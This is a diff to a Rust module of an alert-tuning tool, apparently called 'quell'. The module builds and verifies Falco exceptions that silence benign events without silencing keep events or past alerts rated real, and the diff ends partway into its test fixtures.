@@ -1,62 +1,84 @@
-//! Exception synthesis: the narrowest Falco exception over stable identity fields that
-//! covers every benign event and no keep event, generalised only where the benign
-//! events differ, with ranked alternatives. Every candidate is verified; the block
-//! returned is byte for byte the block verified.
+//! Exception synthesis: candidate Falco exceptions over stable identity fields (the actor,
+//! its lineage, the target, the workload), each field widened only along its kind's known
+//! shape ([`crate::kinds`]). Every candidate is verified ([`crate::verify`]): it must
+//! silence every benign event and nothing in the keep set, and no history alert outside the
+//! benign set that triage rates `likely_real` or `uncertain` (or a person marked real).
+//! Among the candidates that pass, one that silences fewer near-attacks made from the
+//! benign events wins; then the most general (it also covers the next segment, the next
+//! pod, the next file of the directory); then the template order. The block returned is
+//! byte for byte the block verified.
 
 use std::collections::BTreeSet;
 
 use quell_events::FlatEvent;
 use serde::Serialize;
 
-use crate::cluster::{mask, Signature, TARGET_FIELDS};
 use crate::emit::{block_yaml, comments, slug, ExVal, ExceptionSpec, Style};
 use crate::input::{text, Record};
+use crate::kinds::{command_words, is_interpreter, is_socket_name, ladder, Gen, PATH_TARGETS};
 use crate::verify::{Verification, Verifier};
 
-/// Fields that hold paths (generalised by directory).
-const PATH_FIELDS: &[&str] = &[
-    "proc.exepath",
-    "fd.name",
-    "fd.directory",
-    "fs.path.name",
-    "fs.path.source",
-    "fs.path.target",
-    "evt.arg.name",
-    "evt.arg.path",
-    "evt.arg.pathname",
-];
-/// Most distinct values an `in` list takes.
-const MAX_IN: usize = 6;
-/// Workload fields, used when every benign event has them.
-const WORKLOAD_FIELDS: &[&str] = &["container.image.repository", "k8s.ns.name"];
+pub use crate::kinds::{safe_for_eq, safe_in_list};
 
-/// The templates tried, in order of preference: `T` is the target field, `W` the workload
-/// fields. Actor (+ lineage) + action target + workload first, as Falco's guidance says.
-const TEMPLATES: &[(&str, &[&str])] = &[
+/// The parts of an exception a template combines.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Role {
+    /// The executable (`proc.exepath`, else `proc.name`); for an interpreter also its
+    /// command line (the script, module or main class).
+    Actor,
+    /// `proc.pname`.
+    Parent,
+    /// `proc.aname[2]`.
+    Grandparent,
+    /// Any ancestor (unindexed `proc.aname`) every benign event shares beyond its parent.
+    Ancestor,
+    /// What the event acted on: a path, the server of a connection, else the command line.
+    Target,
+    /// The command line.
+    Command,
+    /// `user.name`.
+    User,
+    /// Image repository, namespace, the pod's controller.
+    Workload,
+}
+
+use Role::*;
+
+/// The templates tried, in order of preference (broadest first among equals).
+const TEMPLATES: &[(&str, &[Role])] = &[
     (
         "actor+parent+target+workload",
-        &["proc.exepath", "proc.pname", "T", "W"],
+        &[Actor, Parent, Target, Workload],
     ),
     (
         "actor+lineage+target+workload",
-        &["proc.exepath", "proc.pname", "proc.aname[2]", "T", "W"],
+        &[Actor, Parent, Grandparent, Target, Workload],
     ),
     (
-        "name+parent+target+workload",
-        &["proc.name", "proc.pname", "T", "W"],
+        "actor+parent+ancestor+target+workload",
+        &[Actor, Parent, Ancestor, Target, Workload],
     ),
-    ("actor+target+workload", &["proc.exepath", "T", "W"]),
-    ("name+target+workload", &["proc.name", "T", "W"]),
     (
         "actor+parent+target+user+workload",
-        &["proc.exepath", "proc.pname", "T", "user.name", "W"],
+        &[Actor, Parent, Target, User, Workload],
     ),
-    ("command+target+workload", &["proc.cmdline", "T", "W"]),
     (
-        "actor+parent+command+workload",
-        &["proc.exepath", "proc.pname", "proc.cmdline", "W"],
+        "actor+lineage+target+user+workload",
+        &[Actor, Parent, Grandparent, Target, User, Workload],
     ),
-    ("target+workload", &["T", "W"]),
+    (
+        "actor+command+parent+target+workload",
+        &[Actor, Command, Parent, Target, Workload],
+    ),
+    (
+        "actor+command+lineage+target+user+workload",
+        &[Actor, Command, Parent, Grandparent, Target, User, Workload],
+    ),
+    ("actor+target+workload", &[Actor, Target, Workload]),
+    (
+        "actor+target+user+workload",
+        &[Actor, Target, User, Workload],
+    ),
 ];
 
 /// Options.
@@ -75,6 +97,9 @@ pub struct Options {
 pub struct Candidate {
     /// Which template produced it.
     pub template: String,
+    /// How far its values were widened: the sum over its fields of 0 (the values seen),
+    /// 1 (the kind's variable parts) or 2 (the directory, network or script around them).
+    pub generality: u32,
     /// The exceptions.
     pub exceptions: Vec<ExceptionSpec>,
     /// The full YAML (comments + block), exactly as verified.
@@ -108,6 +133,18 @@ pub enum SynthError {
         /// Events given.
         given: usize,
     },
+    /// Every candidate also silences a history alert that is not known to be benign.
+    #[error("no exception silences the benign events without also silencing a past alert of \"{rule}\" outside the benign set that {why}: {description} (cluster {cluster}); mark it benign in the history if a person judged it so, or narrow the benign set")]
+    Blocked {
+        /// The rule.
+        rule: String,
+        /// Why it blocks: `triage rates likely_real`, ...
+        why: String,
+        /// The blocking alert, described (escaped).
+        description: String,
+        /// Its cluster.
+        cluster: String,
+    },
     /// No candidate separates benign from keep events.
     #[error(
         "no exception over stable fields separates the benign events from the keep events: {0}"
@@ -115,133 +152,37 @@ pub enum SynthError {
     NoSeparation(String),
 }
 
-/// A field's generalisation over the benign values.
-fn generalise(field: &str, values: &[String]) -> Option<(String, ExVal)> {
-    let distinct: BTreeSet<&str> = values.iter().map(String::as_str).collect();
-    if distinct.is_empty()
-        || distinct
-            .iter()
-            .any(|v| v.contains('\n') || v.contains('\r'))
+/// How the benign events of one exception are told apart by their target.
+#[derive(Clone, Debug, PartialEq, Eq)]
+enum TargetKind {
+    /// A path field.
+    Path(&'static str),
+    /// A connection: its server side.
+    Net,
+    /// Nothing to act on: the command line stands for the target.
+    None,
+}
+
+fn target_kind(ev: &FlatEvent) -> TargetKind {
+    if ["fd.sip", "fd.sip.name", "fd.sport"]
+        .iter()
+        .any(|k| text(ev, k).is_some())
+        || text(ev, "fd.name").is_some_and(|v| is_socket_name(&v))
     {
-        return None;
+        return TargetKind::Net;
     }
-    if distinct.len() == 1 {
-        let v = *distinct.iter().next()?;
-        if safe_for_eq(v) {
-            return Some(("=".into(), ExVal::One(v.to_string())));
-        }
-        // A quote (or escape) cannot survive Falco's quoting: use the safe prefix.
-        let prefix = safe_prefix(v);
-        return (prefix.len() >= 4).then(|| ("startswith".into(), ExVal::One(prefix)));
-    }
-    let masked: BTreeSet<String> = distinct.iter().map(|v| mask(v)).collect();
-    let lcp = common_prefix(&distinct);
-    if masked.len() == 1 && lcp.len() >= 4 && safe_for_eq(&lcp) {
-        return Some(("startswith".into(), ExVal::One(lcp)));
-    }
-    if distinct.len() <= MAX_IN && distinct.iter().all(|v| safe_in_list(v)) {
-        return Some((
-            "in".into(),
-            ExVal::Many(distinct.iter().map(|s| s.to_string()).collect()),
-        ));
-    }
-    if PATH_FIELDS.contains(&field) {
-        let dir = match lcp.rfind('/') {
-            Some(i) => lcp[..=i].to_string(),
-            None => String::new(),
-        };
-        if dir.matches('/').count() >= 3 && safe_for_eq(&dir) {
-            return Some(("startswith".into(), ExVal::One(dir)));
-        }
-        let dirs: BTreeSet<String> = distinct
-            .iter()
-            .filter_map(|v| v.rfind('/').map(|i| v[..i].to_string()))
-            .filter(|d| !d.is_empty())
-            .collect();
-        if dirs.len() <= MAX_IN
-            && dirs.len()
-                == distinct
-                    .iter()
-                    .filter(|v| v.contains('/'))
-                    .count()
-                    .min(dirs.len())
-            && dirs
-                .iter()
-                .all(|d| safe_in_list(d) && d.matches('/').count() >= 2)
-        {
-            return Some(("pmatch".into(), ExVal::Many(dirs.into_iter().collect())));
-        }
-        return None;
-    }
-    // A token every value shares.
-    let first = distinct.iter().next()?;
-    let token = first
-        .split_whitespace()
-        .filter(|t| t.len() >= 4 && safe_for_eq(t) && !t.contains(' '))
-        .filter(|t| distinct.iter().all(|v| v.contains(*t)))
-        .max_by_key(|t| t.len())?;
-    Some(("contains".into(), ExVal::One(token.to_string())))
+    PATH_TARGETS
+        .iter()
+        .find(|k| text(ev, k).is_some_and(|v| !is_socket_name(&v)))
+        .map_or(TargetKind::None, |k| TargetKind::Path(k))
 }
 
-/// Whether a value survives Falco's compile step with `=`-like operators: `quote_item`
-/// wraps a value with a space in double quotes without escaping, so a double quote or a
-/// backslash inside breaks it; a value without a space is a bare word, which must not
-/// contain characters that end a bare word or start a quoted string.
-pub fn safe_for_eq(v: &str) -> bool {
-    if v.is_empty() || v.contains('"') || v.contains('\\') || v.starts_with('\'') {
-        return false;
-    }
-    if v.contains(' ') {
-        return true;
-    }
-    !v.contains(|c: char| "(),=<>!'\t".contains(c))
-}
-
-/// Whether a value can be an item of an `in (...)` list.
-pub fn safe_in_list(v: &str) -> bool {
-    safe_for_eq(v) && (v.contains(' ') || !v.contains(','))
-}
-
-fn safe_prefix(v: &str) -> String {
-    let cut = v.find(['"', '\\', '\'', '\n']).unwrap_or(v.len());
-    let p = &v[..cut];
-    if safe_for_eq(p) {
-        p.to_string()
-    } else {
-        String::new()
-    }
-}
-
-fn common_prefix(values: &BTreeSet<&str>) -> String {
-    let mut it = values.iter();
-    let Some(first) = it.next() else {
-        return String::new();
-    };
-    let mut end = first.len();
-    for v in it {
-        end = end.min(
-            first
-                .bytes()
-                .zip(v.bytes())
-                .take_while(|(a, b)| a == b)
-                .count(),
-        );
-    }
-    while !first.is_char_boundary(end) {
-        end -= 1;
-    }
-    first[..end].to_string()
-}
-
-/// Benign events grouped by which target field they carry (a truncation names `fd.name`,
-/// a deletion `fs.path.name`): each group gets its own exception.
-fn partitions<'r>(benign: &[&'r Record]) -> Vec<(Option<&'static str>, Vec<&'r FlatEvent>)> {
-    let mut out: Vec<(Option<&'static str>, Vec<&'r FlatEvent>)> = Vec::new();
+/// Benign events grouped by the kind of their target (a truncation names `fd.name`, a
+/// deletion `fs.path.name`, a connection its server): each group gets its own exception.
+fn partitions<'r>(benign: &[&'r Record]) -> Vec<(TargetKind, Vec<&'r FlatEvent>)> {
+    let mut out: Vec<(TargetKind, Vec<&'r FlatEvent>)> = Vec::new();
     for r in benign {
-        let t = TARGET_FIELDS
-            .iter()
-            .copied()
-            .find(|k| text(&r.event, k).is_some());
+        let t = target_kind(&r.event);
         match out.iter_mut().find(|(k, _)| *k == t) {
             Some((_, v)) => v.push(&r.event),
             None => out.push((t, vec![&r.event])),
@@ -250,67 +191,316 @@ fn partitions<'r>(benign: &[&'r Record]) -> Vec<(Option<&'static str>, Vec<&'r F
     out
 }
 
-/// Builds the exception of one template over one partition, if every field is usable.
-fn build(
-    template: &[&str],
-    tfield: Option<&'static str>,
-    events: &[&FlatEvent],
-    name: &str,
-) -> Option<ExceptionSpec> {
-    let mut fields: Vec<String> = Vec::new();
-    for f in template {
-        match *f {
-            "T" => fields.push(tfield?.to_string()),
-            "W" => {
-                for w in WORKLOAD_FIELDS {
-                    if events.iter().all(|e| text(e, w).is_some()) {
-                        fields.push(w.to_string());
-                    }
-                }
-            }
-            other => fields.push(other.to_string()),
-        }
-    }
-    let mut comps = Vec::new();
-    let mut tuple = Vec::new();
-    for f in &fields {
-        let vals: Option<Vec<String>> = events.iter().map(|e| text(e, f)).collect();
-        let (c, v) = generalise(f, &vals?)?;
-        comps.push(c);
-        tuple.push(v);
-    }
-    if fields.is_empty() {
-        return None;
-    }
-    Some(ExceptionSpec {
-        name: name.to_string(),
-        fields,
-        comps,
-        values: vec![tuple],
+fn all_have(events: &[&FlatEvent], f: &str) -> bool {
+    events.iter().all(|e| text(e, f).is_some())
+}
+
+fn any_interpreter(events: &[&FlatEvent]) -> bool {
+    events.iter().any(|e| {
+        text(e, "proc.name").is_some_and(|n| is_interpreter(&n))
+            || text(e, "proc.exepath").is_some_and(|n| is_interpreter(&n))
     })
 }
 
-fn exception_name(events: &[&FlatEvent], tfield: Option<&str>, idx: usize) -> String {
-    let first = events.first();
-    let actor = first.and_then(|e| text(e, "proc.name")).unwrap_or_default();
-    let tgt = match (first, tfield) {
-        (Some(e), Some(t)) => text(e, t)
-            .map(|p| p.rsplit('/').next().unwrap_or_default().to_string())
-            .unwrap_or_default(),
-        _ => String::new(),
+/// Names too generic to tell a lineage apart as "any ancestor".
+const GENERIC_ANCESTORS: &[&str] = &[
+    "sh",
+    "bash",
+    "dash",
+    "zsh",
+    "ash",
+    "busybox",
+    "env",
+    "sudo",
+    "su",
+    "init",
+    "systemd",
+    "containerd-shim",
+    "containerd-shim-runc-v2",
+    "runc",
+    "tini",
+    "dumb-init",
+    "setsid",
+    "timeout",
+    "nohup",
+    "xargs",
+    "script",
+];
+
+/// An ancestor name (levels 2..8) every benign event has, nearest first, not a shell or a
+/// generic launcher.
+fn shared_ancestor(events: &[&FlatEvent]) -> Option<String> {
+    let first = events.first()?;
+    (2..=8)
+        .filter_map(|n| text(first, &format!("proc.aname[{n}]")))
+        .filter(|a| !GENERIC_ANCESTORS.contains(&a.as_str()))
+        .find(|a| {
+            events.iter().all(|e| {
+                (2..=8).any(|n| text(e, &format!("proc.aname[{n}]")).as_deref() == Some(a))
+            })
+        })
+}
+
+/// The fields a template keys on for one partition (`None`: the template does not apply).
+fn fields_for(roles: &[Role], tk: &TargetKind, events: &[&FlatEvent]) -> Option<Vec<String>> {
+    let mut fields: Vec<String> = Vec::new();
+    let mut push = |f: &str| {
+        if !fields.iter().any(|x| x == f) {
+            fields.push(f.to_string());
+        }
     };
-    let base = slug(&["quell", &actor, &tgt]);
-    if idx == 0 {
-        base
-    } else {
-        format!("{base}_{}", idx + 1)
+    for role in roles {
+        match role {
+            Actor => {
+                if all_have(events, "proc.exepath") {
+                    push("proc.exepath");
+                } else if all_have(events, "proc.name") {
+                    push("proc.name");
+                } else {
+                    return None;
+                }
+                if any_interpreter(events) {
+                    // An interpreter is never the whole actor: its script goes in.
+                    if !all_have(events, "proc.cmdline") {
+                        return None;
+                    }
+                    push("proc.cmdline");
+                }
+            }
+            Parent => {
+                if !all_have(events, "proc.pname") {
+                    return None;
+                }
+                push("proc.pname");
+            }
+            Grandparent => {
+                if !all_have(events, "proc.aname[2]") {
+                    return None;
+                }
+                push("proc.aname[2]");
+            }
+            Ancestor => push("proc.aname"),
+            Target => match tk {
+                TargetKind::Path(f) => push(f),
+                TargetKind::Net => {
+                    if all_have(events, "fd.sip.name") {
+                        push("fd.sip.name");
+                    } else if all_have(events, "fd.sip") {
+                        push("fd.sip");
+                    }
+                    if all_have(events, "fd.sport") {
+                        push("fd.sport");
+                    }
+                }
+                TargetKind::None => {
+                    if !all_have(events, "proc.cmdline") {
+                        return None;
+                    }
+                    push("proc.cmdline");
+                }
+            },
+            Command => {
+                if !all_have(events, "proc.cmdline") {
+                    return None;
+                }
+                push("proc.cmdline");
+            }
+            User => {
+                if !all_have(events, "user.name") {
+                    return None;
+                }
+                push("user.name");
+            }
+            Workload => {
+                for w in ["container.image.repository", "k8s.ns.name", "k8s.pod.name"] {
+                    if all_have(events, w) {
+                        push(w);
+                    }
+                }
+            }
+        }
+    }
+    (!fields.is_empty()).then_some(fields)
+}
+
+/// The ladder of one field over a partition's events.
+fn field_ladder(field: &str, events: &[&FlatEvent]) -> Vec<Gen> {
+    if field == "proc.aname" {
+        return shared_ancestor(events)
+            .filter(|a| safe_for_eq(a))
+            .map(|a| Gen {
+                field: "proc.aname".into(),
+                comp: "=".into(),
+                value: ExVal::One(a),
+                level: 0,
+            })
+            .into_iter()
+            .collect();
+    }
+    let vals: Option<Vec<String>> = events.iter().map(|e| text(e, field)).collect();
+    vals.map(|v| ladder(field, &v)).unwrap_or_default()
+}
+
+/// Builds one partition's exception at a widening level: each field takes its widest
+/// generalisation not above `level`.
+fn build(ladders: &[Vec<Gen>], level: u8, name: &str) -> Option<(ExceptionSpec, u32, Vec<Gen>)> {
+    let mut chosen: Vec<Gen> = Vec::new();
+    for l in ladders {
+        let g = l.iter().rfind(|g| g.level <= level)?;
+        chosen.push(g.clone());
+    }
+    let generality = chosen.iter().map(|g| u32::from(g.level)).sum();
+    Some((
+        ExceptionSpec {
+            name: name.to_string(),
+            fields: chosen.iter().map(|g| g.field.clone()).collect(),
+            comps: chosen.iter().map(|g| g.comp.clone()).collect(),
+            values: vec![chosen.iter().map(|g| g.value.clone()).collect()],
+        },
+        generality,
+        chosen,
+    ))
+}
+
+/// Well-known server ports, for names (never the number itself).
+fn service_of(port: &str) -> Option<&'static str> {
+    Some(match port {
+        "21" => "ftp",
+        "22" => "ssh",
+        "25" | "587" | "465" => "smtp",
+        "53" => "dns",
+        "80" | "8080" | "8000" => "http",
+        "443" | "8443" => "https",
+        "873" => "rsync",
+        "389" | "636" => "ldap",
+        "2379" => "etcd",
+        "3306" => "mysql",
+        "5432" => "postgres",
+        "5672" => "amqp",
+        "6379" => "redis",
+        "6443" => "kube_apiserver",
+        "9090" => "prometheus",
+        "9092" => "kafka",
+        "9200" => "elasticsearch",
+        "11211" => "memcached",
+        "27017" => "mongodb",
+        _ => return None,
+    })
+}
+
+fn verb(ev: &FlatEvent) -> &'static str {
+    let t = text(ev, "evt.type").unwrap_or_default();
+    let flags = text(ev, "evt.arg.flags").unwrap_or_default();
+    match t.as_str() {
+        "unlink" | "unlinkat" | "rmdir" => "deletes",
+        "rename" | "renameat" | "renameat2" => "renames",
+        "open" | "openat" | "openat2" | "creat" => {
+            if flags.contains("O_TRUNC") {
+                "truncates"
+            } else if flags.contains("O_WRONLY")
+                || flags.contains("O_RDWR")
+                || flags.contains("O_CREAT")
+                || t == "creat"
+            {
+                "writes"
+            } else {
+                "reads"
+            }
+        }
+        "connect" => "connects_to",
+        "accept" | "accept4" => "accepts",
+        "execve" | "execveat" => "runs",
+        "chmod" | "fchmod" | "fchmodat" => "chmods",
+        "mkdir" | "mkdirat" => "creates",
+        "ptrace" => "traces",
+        "symlink" | "symlinkat" | "link" | "linkat" => "links",
+        "" => "acts_on",
+        _ => "acts_on",
     }
 }
 
-fn header(rule: &str, v: &Verification, opts: &Options, clusters: &BTreeSet<String>) -> String {
+fn no_digits(s: &str) -> String {
+    s.chars().filter(|c| !c.is_ascii_digit()).collect()
+}
+
+/// Who acts: the script of an interpreter, else the process name.
+fn actor_name(ev: &FlatEvent) -> String {
+    let name = text(ev, "proc.name").unwrap_or_default();
+    if is_interpreter(&name) {
+        if let Some(cmd) = text(ev, "proc.cmdline") {
+            let words: Vec<&str> = cmd.split(' ').collect();
+            let n = command_words(&words);
+            if n >= 2 {
+                let w = words[n - 1];
+                let base = w.rsplit('/').next().unwrap_or(w);
+                if !base.is_empty() && !base.starts_with('-') {
+                    return base.to_string();
+                }
+            }
+        }
+    }
+    name
+}
+
+/// A name a person can read: behaviour and target (`logrotate_truncates_var_log_app`),
+/// never addresses, ports or digit runs.
+fn readable_name(ev: &FlatEvent, chosen: &[Gen]) -> String {
+    let actor = no_digits(&actor_name(ev));
+    let v = verb(ev);
+    let target = chosen
+        .iter()
+        .find_map(|g| {
+            let val = match &g.value {
+                ExVal::One(s) => s.clone(),
+                ExVal::Many(v) => v.first().cloned().unwrap_or_default(),
+            };
+            match crate::kinds::kind(&g.field) {
+                crate::kinds::Kind::Path => {
+                    let t = if g.comp == "startswith" || g.comp == "pmatch" {
+                        // A directory: its last two components.
+                        let d = val.trim_end_matches('/');
+                        d.rsplit('/')
+                            .take(3)
+                            .collect::<Vec<_>>()
+                            .into_iter()
+                            .rev()
+                            .collect::<Vec<_>>()
+                            .join("_")
+                    } else {
+                        val.rsplit('/').next().unwrap_or_default().to_string()
+                    };
+                    Some(t)
+                }
+                _ if g.field == "fd.sip.name" => {
+                    Some(val.split('.').next().unwrap_or_default().to_string())
+                }
+                _ if g.field == "fd.sport" => {
+                    Some(service_of(&val).unwrap_or("server").to_string())
+                }
+                _ if g.field == "fd.sip" || g.field == "fd.snet" => None,
+                _ => None,
+            }
+        })
+        .or_else(|| {
+            chosen
+                .iter()
+                .any(|g| g.field == "fd.sip" || g.field == "fd.snet")
+                .then(|| "server".to_string())
+        })
+        .unwrap_or_default();
+    let target = no_digits(&target.replace('*', ""));
+    let name = slug(&[&actor, v, &target]);
+    if name.is_empty() {
+        "quell_exception".into()
+    } else {
+        name
+    }
+}
+
+fn header(rule: &str, v: &Verification, opts: &Options) -> String {
     let mut lines = vec![format!(
-        "quell tune: exception for rule \"{rule}\", for the benign cluster(s) {}",
-        clusters.iter().cloned().collect::<Vec<_>>().join(", ")
+        "quell tune: exception for rule \"{rule}\", for {} benign event(s) a person judged benign",
+        v.benign_total
     )];
     for p in &opts.provenance {
         lines.push(format!("Provenance: {p}"));
@@ -329,7 +519,8 @@ fn header(rule: &str, v: &Verification, opts: &Options, clusters: &BTreeSet<Stri
     ));
     lines.push(format!(
         "  benign events silenced: {} of {}",
-        v.benign_silenced, v.benign_total
+        v.benign_total.min(v.benign_silenced),
+        v.benign_total
     ));
     lines.push(format!(
         "  keep events still alerting: {} of {}",
@@ -337,17 +528,46 @@ fn header(rule: &str, v: &Verification, opts: &Options, clusters: &BTreeSet<Stri
     ));
     let b = &v.blast_radius;
     lines.push(format!(
-        "  blast radius over history: {} of {} past alert(s) of this rule silenced, {} outside the benign cluster(s), {} marked real",
-        b.silenced, b.history_alerts, b.outside_benign_clusters, b.marked_real
+        "  blast radius over history: {} of {} past alert(s) of this rule silenced, {} outside the benign set, {} triaged likely_real or uncertain (refused when > 0), {} marked real",
+        b.silenced, b.history_alerts, b.outside_benign_set, b.blocking, b.marked_real
     ));
     for c in b.clusters.iter().take(5) {
         let ex = c.examples.first().cloned().unwrap_or_default();
-        lines.push(format!(
-            "    cluster {}{}: {} (e.g. {ex})",
-            c.cluster,
-            if c.benign_cluster { " (benign)" } else { "" },
-            c.count
-        ));
+        if c.in_benign_set == c.count {
+            lines.push(format!(
+                "    the benign set's own events: {} (e.g. {ex})",
+                c.count
+            ));
+        } else {
+            lines.push(format!(
+                "    cluster {} ({}): {} silenced (e.g. {ex})",
+                c.cluster,
+                c.verdict.map_or("not triaged", |v| v.as_str()),
+                c.count
+            ));
+        }
+    }
+    let total = v.mutations.len();
+    let silenced: Vec<&str> = v
+        .mutations
+        .iter()
+        .filter(|m| m.silenced)
+        .map(|m| m.kind.as_str())
+        .collect::<BTreeSet<_>>()
+        .into_iter()
+        .collect();
+    lines.push(format!(
+        "  near-attacks made from the benign events: {} still alerting of {}{}",
+        total - v.mutations.iter().filter(|m| m.silenced).count(),
+        total,
+        if silenced.is_empty() {
+            String::new()
+        } else {
+            format!("; silenced: {}", silenced.join(", "))
+        }
+    ));
+    if silenced.contains(&"download_before") {
+        lines.push("    (what ran before an event is invisible to an exception: triage, which sees the session, judges those)".into());
     }
     lines.push(
         "The final decision is a person's: review before loading it after your rules.".into(),
@@ -380,11 +600,7 @@ fn finalize(
     first: Verification,
     opts: &Options,
 ) -> (String, Verification) {
-    let text = format!(
-        "{}{}",
-        header(vf.rule(), &first, opts, vf.benign_clusters()),
-        block
-    );
+    let text = format!("{}{}", header(vf.rule(), &first, opts), block);
     let mut fin = vf.verify(&text, opts.legacy);
     if fin != first {
         // Comments cannot change the meaning; if they did, refuse the block.
@@ -438,16 +654,46 @@ fn verify_all(vf: &Verifier<'_>, blocks: &[String], legacy: bool) -> Vec<Verific
         .collect()
 }
 
-fn rank_key(v: &Verification, order: usize) -> (bool, usize, usize, usize, usize, usize) {
+/// Ranking: passing first; then fewer keep events silenced, fewer blocking history
+/// alerts, fewer benign events left alerting (for failures); then fewer avoidable
+/// near-attacks silenced; then the most general; then the template order.
+fn rank_key(
+    v: &Verification,
+    generality: u32,
+    order: usize,
+) -> (
+    bool,
+    usize,
+    usize,
+    usize,
+    usize,
+    std::cmp::Reverse<u32>,
+    usize,
+) {
     (
         !v.passed,
         v.keep_total - v.keep_alerting,
-        v.blast_radius.marked_real,
-        v.blast_radius.outside_benign_clusters,
-        v.benign_total - v.benign_silenced,
+        v.blast_radius.blocking,
+        v.benign_total - v.benign_silenced.min(v.benign_total),
+        v.mutations_silenced,
+        std::cmp::Reverse(generality),
         order,
     )
 }
+
+/// A verified candidate before its final text: order, template, generality, exceptions,
+/// block, verification.
+type Ranked<'t> = (
+    usize,
+    &'t str,
+    u32,
+    Vec<ExceptionSpec>,
+    String,
+    Verification,
+);
+
+/// Widening levels tried for each template.
+const LEVELS: [u8; 3] = [0, 1, 2];
 
 /// Synthesizes and verifies candidate exceptions for the verifier's rule.
 pub fn synthesize(vf: &Verifier<'_>, opts: &Options) -> Result<Proposal, SynthError> {
@@ -468,53 +714,82 @@ pub fn synthesize(vf: &Verifier<'_>, opts: &Options) -> Result<Proposal, SynthEr
     } else {
         Style::Override
     };
-    let mut built: Vec<(usize, &str, Vec<ExceptionSpec>, String)> = Vec::new();
-    for (order, (tname, template)) in TEMPLATES.iter().enumerate() {
-        let mut exs = Vec::new();
-        for (i, (tfield, events)) in parts.iter().enumerate() {
-            let name = exception_name(events, *tfield, i);
-            match build(template, *tfield, events, &name) {
-                Some(e) => exs.push(e),
-                None => break,
+    let mut built: Vec<(usize, &str, u32, Vec<ExceptionSpec>, String)> = Vec::new();
+    for (t_order, (tname, roles)) in TEMPLATES.iter().enumerate() {
+        let per_part: Option<Vec<Vec<Vec<Gen>>>> = parts
+            .iter()
+            .map(|(tk, events)| {
+                let fields = fields_for(roles, tk, events)?;
+                let ladders: Vec<Vec<Gen>> =
+                    fields.iter().map(|f| field_ladder(f, events)).collect();
+                ladders.iter().all(|l| !l.is_empty()).then_some(ladders)
+            })
+            .collect();
+        let Some(per_part) = per_part else { continue };
+        for (l_order, level) in LEVELS.iter().enumerate() {
+            let mut exs = Vec::new();
+            let mut generality = 0;
+            let mut names: BTreeSet<String> = BTreeSet::new();
+            for ((_, events), ladders) in parts.iter().zip(&per_part) {
+                let Some((mut ex, g, chosen)) = build(ladders, *level, "") else {
+                    break;
+                };
+                let base = events
+                    .first()
+                    .map(|e| readable_name(e, &chosen))
+                    .unwrap_or_default();
+                let mut name = base.clone();
+                let mut k = 2;
+                while !names.insert(name.clone()) {
+                    name = format!("{base}_{k}");
+                    k += 1;
+                }
+                ex.name = name;
+                generality += g;
+                exs.push(ex);
             }
+            if exs.len() != parts.len() || !seen.insert(exs.clone()) {
+                continue;
+            }
+            let block = block_yaml(vf.rule(), &exs, style);
+            built.push((
+                t_order * LEVELS.len() + l_order,
+                tname,
+                generality,
+                exs,
+                block,
+            ));
         }
-        if exs.len() != parts.len() || !seen.insert(exs.clone()) {
-            continue;
-        }
-        let block = block_yaml(vf.rule(), &exs, style);
-        built.push((order, tname, exs, block));
     }
-    let blocks: Vec<String> = built.iter().map(|b| b.3.clone()).collect();
+    let blocks: Vec<String> = built.iter().map(|b| b.4.clone()).collect();
     let firsts = verify_all(vf, &blocks, opts.legacy);
-    let mut ranked: Vec<(usize, &str, Vec<ExceptionSpec>, String, Verification)> = built
+    let mut ranked: Vec<Ranked<'_>> = built
         .into_iter()
         .zip(firsts)
-        .map(|((o, t, e, b), v)| (o, t, e, b, v))
+        .map(|((o, t, g, e, b), v)| (o, t, g, e, b, v))
         .collect();
-    ranked.sort_by_key(|(o, _, _, _, v)| rank_key(v, *o));
+    ranked.sort_by_key(|(o, _, g, _, _, v)| rank_key(v, *g, *o));
     let max = if opts.max_alternatives == 0 {
         5
     } else {
         opts.max_alternatives
     };
     // Only what is returned gets its final text (header + block) built and verified.
-    let cands: Vec<(usize, Candidate)> = ranked
+    let cands: Vec<Candidate> = ranked
         .into_iter()
         .take(max + 1)
-        .map(|(o, t, exs, block, first)| {
+        .map(|(_, t, g, exs, block, first)| {
             let (yaml, verification) = finalize(vf, &block, first, opts);
-            (
-                o,
-                Candidate {
-                    template: t.to_string(),
-                    exceptions: exs,
-                    yaml,
-                    verification,
-                },
-            )
+            Candidate {
+                template: t.to_string(),
+                generality: g,
+                exceptions: exs,
+                yaml,
+                verification,
+            }
         })
         .collect();
-    let mut it = cands.into_iter().map(|(_, c)| c);
+    let mut it = cands.into_iter();
     let Some(best) = it.next() else {
         return Err(SynthError::NoSeparation(
             "the benign events share no usable stable field (values differ too much, or hold characters Falco's exception quoting cannot carry)".into(),
@@ -522,14 +797,28 @@ pub fn synthesize(vf: &Verifier<'_>, opts: &Options) -> Result<Proposal, SynthEr
     };
     if !best.verification.passed {
         let v = &best.verification;
-        let why = if v.keep_alerting < v.keep_total {
-            format!(
-                "the narrowest candidate ({}) also silences {} keep event(s), e.g. {}",
+        if v.keep_alerting < v.keep_total {
+            return Err(SynthError::NoSeparation(format!(
+                "the best candidate ({}) also silences {} keep event(s), e.g. {}",
                 best.template,
                 v.keep_total - v.keep_alerting,
                 v.keep_silenced.first().cloned().unwrap_or_default()
-            )
-        } else if !v.loads {
+            )));
+        }
+        if let Some(b) = v.blocking.first() {
+            let why = match b.verdict.as_str() {
+                "marked_real" => "a person marked real".to_string(),
+                "not_triaged" => "triage did not rate (another rule matched it first)".to_string(),
+                other => format!("triage rates {other}"),
+            };
+            return Err(SynthError::Blocked {
+                rule: b.rule.clone(),
+                why,
+                description: b.description.clone(),
+                cluster: b.cluster.clone(),
+            });
+        }
+        let why = if !v.loads {
             format!(
                 "no candidate loads cleanly: {}",
                 v.errors
@@ -555,14 +844,6 @@ pub fn synthesize(vf: &Verifier<'_>, opts: &Options) -> Result<Proposal, SynthEr
     })
 }
 
-/// The benign events' cluster ids (for provenance).
-pub fn clusters_of(rule: &str, records: &[Record]) -> BTreeSet<String> {
-    records
-        .iter()
-        .map(|r| Signature::of(rule, &r.event).id())
-        .collect()
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -575,6 +856,11 @@ mod tests {
   condition: (evt.type in (unlink, unlinkat) and fs.path.name startswith /var/log/) or (evt.type = openat and fd.name startswith /var/log/)
   output: log cleared (path=%fs.path.name file=%fd.name process=%proc.name exepath=%proc.exepath parent=%proc.pname)
   priority: WARNING
+- rule: Outbound Connection
+  desc: any connect
+  condition: evt.type = connect and fd.sip exists
